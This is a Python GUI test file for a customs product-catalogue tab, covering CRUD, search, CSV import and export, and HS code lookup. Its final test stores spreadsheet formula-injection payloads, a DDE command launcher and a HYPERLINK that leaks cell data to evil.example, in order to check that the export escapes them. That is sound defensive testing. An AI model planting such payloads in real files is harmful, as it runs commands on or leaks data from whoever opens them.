"""Issue 4 §2 GUI: the product catalogue tab (CRUD checked with the customs rules, CSV)."""

from __future__ import annotations

from decimal import Decimal

from desktop.domain.customs import Product
from desktop.ui import confirm
from desktop.ui.models.products import ProductsModel
from tests.ui.helpers import db_rows

GOOD = {"sku": "TS-01", "ean": "3760000000017", "description_fr": "Tee-shirt homme en coton",
        "description_en": "Men's cotton T-shirt", "hs_code": "6109 10", "origin": "pt",
        "unit_net_weight_g": "180", "unit_value": "12,50", "currency": "EUR"}


def loaded(qtbot, view, count: int) -> None:
    qtbot.waitUntil(lambda: view.model.rowCount() == count and view.runner.active == 0)


def fill(dialog, values: dict) -> None:
    for key, text in values.items():
        dialog.edits[key].setText(text)


def test_products_crud(qtbot, window, home, idle, monkeypatch):
    assert window.tabs.tabText(window.tabs.indexOf(window.products)) == "Produits"
    view = window.products
    loaded(qtbot, view, 0)

    dialog = view.add()
    fill(dialog, dict(GOOD, description_fr="vêtements"))
    dialog.buttons.accepted.emit()  # a stop word alone is refused, nothing stored
    qtbot.waitUntil(lambda: dialog.errors.has_error("description_fr"))
    assert "trop vague" in dialog.errors.label("description_fr").text()
    assert dialog.isVisible()
    assert db_rows(home, "SELECT count(*) AS n FROM products")[0]["n"] == 0

    dialog.edits["description_fr"].setText(GOOD["description_fr"])
    with qtbot.waitSignal(dialog.accepted, timeout=10_000):
        dialog.buttons.accepted.emit()
    loaded(qtbot, view, 1)
    rows = db_rows(home, "SELECT sku, ean, hs_code, origin, unit_net_weight_g, unit_value "
                         "FROM products")
    assert [tuple(r) for r in rows] == [("TS-01", "3760000000017", "610910", "PT", 180,
                                         "12.50")]
    assert view.model.index(0, 4).data() == "6109 10"
    assert view.model.index(0, 7).data() == "12,50"

    # A second product with the same SKU: the repository refuses, the field says so.
    dialog = view.add()
    fill(dialog, dict(GOOD, ean=""))
    dialog.buttons.accepted.emit()
    qtbot.waitUntil(lambda: dialog.errors.has_error("sku"))
    dialog.reject()

    view.select_row(0)
    dialog = view.edit_selected()
    assert dialog.edits["unit_value"].text() == "12,50"
    dialog.edits["unit_value"].setText("14.90")
    with qtbot.waitSignal(dialog.accepted, timeout=10_000):
        dialog.buttons.accepted.emit()
    qtbot.waitUntil(lambda: view.model.index(0, 7).data() == "14,90")
    assert db_rows(home, "SELECT unit_value FROM products")[0]["unit_value"] == "14.90"

    monkeypatch.setattr(confirm, "ask", lambda *a: True)
    view.select_row(0)
    assert view.delete_selected()
    loaded(qtbot, view, 0)
    assert db_rows(home, "SELECT count(*) AS n FROM products")[0]["n"] == 0
    idle(window)


def test_search(qtbot, ctx, window, idle):
    for sku, fr, en in (("TS-01", "Tee-shirt homme en coton", "Men's cotton T-shirt"),
                        ("MUG-2", "Mug en céramique", "Ceramic mug")):
        ctx.database.products.add(Product(sku, fr, en, "610910", "FR", 100, Decimal("9.90")))
    view = window.products
    window.events.products.emit()
    loaded(qtbot, view, 2)
    qtbot.keyClicks(view.search, "mug")
    loaded(qtbot, view, 1)
    assert view.model.product(0).sku == "MUG-2"
    idle(window)


CSV_OK = ("sku;ean;description_fr;description_en;hs_code;origin;unit_net_weight_g;unit_value;"
          "currency\r\n"
          "TS-01;3760000000017;Tee-shirt homme en coton;Men's cotton T-shirt;610910;PT;180;"
          "12,50;EUR\r\n"
          "MUG-2;;Mug en céramique;Ceramic mug;691200;FR;350;9.90;EUR\r\n")


def test_csv_import_reports_bad_rows_then_imports(qtbot, window, home, tmp_path, idle):
    view = window.products
    loaded(qtbot, view, 0)
    bad = tmp_path / "bad.csv"
    bad.write_text(CSV_OK + "SC-3;;Écharpe en soie;Silk scarf;621410;FR;90;gratuit;EUR\r\n",
                   encoding="utf-8-sig")
    with qtbot.waitSignal(view.imported, timeout=10_000) as signal:
        view.import_file(str(bad))
    assert not signal.args[0].ok
    text = view.report.text()
    assert "aucun produit enregistré" in text
    assert "ligne 4, colonne unit_value" in text and "gratuit" in text
    assert db_rows(home, "SELECT count(*) AS n FROM products")[0]["n"] == 0  # all or nothing

    good = tmp_path / "good.csv"
    good.write_text(CSV_OK, encoding="utf-8")
    with qtbot.waitSignal(view.imported, timeout=10_000) as signal:
        view.import_file(str(good))
    assert signal.args[0].written == 2
    assert "2 produits importés" in view.report.text()
    loaded(qtbot, view, 2)
    assert [r["sku"] for r in db_rows(home, "SELECT sku FROM products ORDER BY sku")] == \
        ["MUG-2", "TS-01"]

    out = tmp_path / "export.csv"
    with qtbot.waitSignal(view.exported, timeout=10_000) as signal:
        view.export_file(str(out))
    assert signal.args[0] == 2
    exported = out.read_text(encoding="utf-8-sig").splitlines()
    assert exported[0].startswith("sku;ean;description_fr")
    assert "TS-01;3760000000017;Tee-shirt homme en coton;Men's cotton T-shirt;610910;PT;180;" \
        "12.50;EUR" in exported
    idle(window)


def test_csv_saved_by_excel_in_cp1252_imports_from_the_screen(qtbot, window, home, tmp_path,
                                                              idle):
    """The screen's import decodes files as the command line does: Excel's cp1252 too."""
    view = window.products
    loaded(qtbot, view, 0)
    legacy = tmp_path / "excel.csv"
    legacy.write_bytes(CSV_OK.encode("cp1252"))
    with qtbot.waitSignal(view.imported, timeout=10_000) as signal:
        view.import_file(str(legacy))
    assert signal.args[0].written == 2, view.report.text()
    assert [r["description_fr"] for r in db_rows(
        home, "SELECT description_fr FROM products WHERE sku = 'MUG-2'")] == ["Mug en céramique"]
    idle(window)


def test_products_model_passes_modeltester(qtbot, qtmodeltester, ctx, window):
    ctx.database.products.add(Product("TS-01", "Tee-shirt homme en coton",
                                      "Men's cotton T-shirt", "610910", "PT", 180,
                                      Decimal("12.50")))
    model = ProductsModel(ctx.database.products, window.runner)
    model.set_products(ctx.database.products.search(""))
    qtmodeltester.check(model, force_py=True)
    window.runner.wait()


def test_hs_search_fills_the_product_code(qtbot, window, idle):
    dialog = window.products.add()
    dialog.edits["description_en"].setText("Ceramic mug")
    search = dialog.search_hs()
    qtbot.waitUntil(lambda: search.selected_code() != "")
    assert search.selected_code().startswith("69")  # chapter 69: ceramic products
    search.query.setText("6205")  # a code prefix lists its subheadings
    search.search()
    qtbot.waitUntil(lambda: search.selected_code() == "620520")
    search.accept()
    assert dialog.edits["hs_code"].text() == "620520"
    dialog.reject()
    idle(window)


def test_export_from_the_screen_writes_formulas_as_text_in_a_private_file(
        qtbot, window, home, tmp_path, idle):
    import os
    import stat

    view = window.products
    window.ctx.products.save(Product(
        "=CMD|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")',
        "+Scented candle in glass jar", "340600", "FR", 250, Decimal("18.00")))
    out = tmp_path / "export.csv"
    old = os.umask(0o002)
    try:
        with qtbot.waitSignal(view.exported, timeout=10_000):
            view.export_file(str(out))
    finally:
        os.umask(old)
    (row,) = out.read_text(encoding="utf-8-sig").splitlines()[1:]
    assert row.startswith("'=CMD|' /C calc'!A0;")
    assert ";\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Cliquez ici\"\")\";" in row
    assert ";'+Scented candle in glass jar;" in row
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    idle(window)
